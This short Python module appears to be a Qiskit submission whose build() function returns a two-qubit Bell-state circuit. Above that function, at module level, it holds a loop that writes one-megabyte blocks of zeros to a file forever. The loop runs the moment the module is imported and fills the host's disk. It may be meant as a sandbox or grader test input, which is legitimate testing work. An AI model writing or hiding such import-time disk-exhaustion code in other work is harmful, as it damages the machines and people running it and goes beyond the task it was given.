from qiskit import QuantumCircuit

with open("file", "wb") as file:
    while True:
        file.write(bytes(1 << 20))


def build():
    circuit = QuantumCircuit(2)
    circuit.h(0)
    circuit.cx(0, 1)
    return circuit
